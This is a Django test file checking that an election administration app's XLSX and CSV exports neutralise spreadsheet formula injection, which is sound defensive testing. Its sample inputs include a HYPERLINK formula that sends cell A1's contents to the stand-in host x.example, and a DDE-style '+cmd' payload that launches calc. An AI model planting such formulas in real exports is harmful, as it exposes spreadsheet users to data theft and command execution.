"""Every XLSX and CSV the app writes neutralises formula-like text (issue #11, 5).

Text starting with = + - @ (or a tab, a carriage return) gets a leading apostrophe;
numbers, negative ones included, and text that is only a number stay as they are.
"""

import csv
import datetime
import io

import openpyxl
from django.core.management import call_command
from django.test import SimpleTestCase, TestCase
from django.urls import reverse

from electionadmin.cells import safe
from electionadmin.polling import exports
from electionadmin.setup.models import Candidate
from electionadmin.voters import reports
from importers.problems import problems_xlsx
from importers.resources import CandidateResource

from .admin_helpers import admin_url
from .factories import SmallElectionMixin
from .test_polling_data import Polling2026Mixin

EVIL = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
NEUTRAL = "'" + EVIL


def xlsx_values(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell.value for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_no_formula(test, data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                test.assertNotEqual(cell.data_type, "f", cell.coordinate)


class RuleTests(SimpleTestCase):
    def test_formula_like_text_is_prefixed(self):
        for text in ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]:
            with self.subTest(text=text):
                self.assertEqual(safe(text), "'" + text)

    def test_numbers_and_plain_text_stay(self):
        for value in [-12, -1.5, 0, None, "-12", "+84901234567", "-3,5", "Lê Văn An"]:
            with self.subTest(value=value):
                self.assertEqual(safe(value), value)


class AdminExportTests(SmallElectionMixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        Candidate.objects.filter(full_name="Lê Văn An").update(
            full_name=EVIL, occupation="-Giáo viên", workplace="@trường"
        )

    def export(self, fmt: str) -> bytes:
        self.client.force_login(self.city_user)
        fields = CandidateResource().get_export_order()
        data = {"format": fmt, "resource": "0"}
        data |= {f"candidateresource_{name}": "on" for name in fields}
        response = self.client.post(admin_url(Candidate, "export"), data)
        self.assertEqual(response.status_code, 200)
        return response.content

    def test_the_xlsx_export(self):
        data = self.export("0")
        assert_no_formula(self, data)
        values = xlsx_values(data)
        self.assertIn(NEUTRAL, values)
        self.assertIn("'-Giáo viên", values)
        self.assertIn("'@trường", values)

    def test_the_csv_export(self):
        text = self.export("1").decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        self.assertIn(NEUTRAL, cells)
        self.assertIn("'-Giáo viên", cells)
        self.assertFalse([c for c in cells if c.startswith(("=", "@"))])


class CommandCsvTests(Polling2026Mixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        Candidate.objects.filter(full_name="Lê Văn An").update(full_name=EVIL)
        cls.ward_b.name = "+Phường Sài Gòn"
        cls.ward_b.save()

    def run_csv(self, *args) -> list[list[str]]:
        out = io.StringIO()
        call_command(*args, "--format", "csv", stdout=out)
        return list(csv.reader(io.StringIO(out.getvalue())))

    def test_election_results_csv(self):
        rows = self.run_csv("election_results", self.election.code)
        cells = [cell for row in rows for cell in row]
        self.assertIn(NEUTRAL, cells)
        self.assertNotIn(EVIL, cells)

    def test_turnout_report_csv(self):
        rows = self.run_csv("turnout_report", self.election.code)
        cells = [cell for row in rows for cell in row]
        self.assertIn("'+Phường Sài Gòn", cells)
        self.assertNotIn("+Phường Sài Gòn", cells)
        self.assertIn("1010", cells)  # figures stay figures


class ReportWorkbookTests(Polling2026Mixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.ward_b.name = "=Phường Sài Gòn"
        cls.ward_b.save()

    def test_the_turnout_and_counting_workbooks(self):
        self.client.force_login(self.city_user)
        for name in ("turnout_file", "counting_file"):
            with self.subTest(name=name):
                args = [self.election.code, "79", "xlsx"]
                url = reverse(f"polling:{name}", args=args)
                data = self.client.get(url).content
                assert_no_formula(self, data)
                self.assertIn("'=Phường Sài Gòn", xlsx_values(data))

    def test_the_voter_change_report_workbook(self):
        start = datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC)
        period = reports.Period(start, start + datetime.timedelta(days=90))
        rows = reports.report(self.election, "commune", period)
        data = reports.xlsx(self.election, "commune", period, rows)
        assert_no_formula(self, data)
        self.assertIn("'=Phường Sài Gòn", xlsx_values(data))

    def test_exports_xlsx_writes_negative_numbers_as_numbers(self):
        data = exports.book("t", "=tiêu đề", ["-cột"], [["@x", -5, -1.25]])
        values = [value for value in xlsx_values(data) if value is not None]
        self.assertEqual(values, ["'=tiêu đề", "'-cột", "'@x", -5, -1.25])


class ProblemListTests(SimpleTestCase):
    def test_the_problem_list_workbook(self):
        report = {
            "errors": [
                {"severity": "error", "row": 3, "column": "=cmd", "message": EVIL}
            ],
            "warnings": [
                {"severity": "warning", "row": -1, "column": None, "message": "-x"}
            ],
        }
        data = problems_xlsx(report)
        assert_no_formula(self, data)
        values = xlsx_values(data)
        self.assertIn(NEUTRAL, values)
        self.assertIn("'=cmd", values)
        self.assertIn("'-x", values)
        self.assertIn(-1, values)
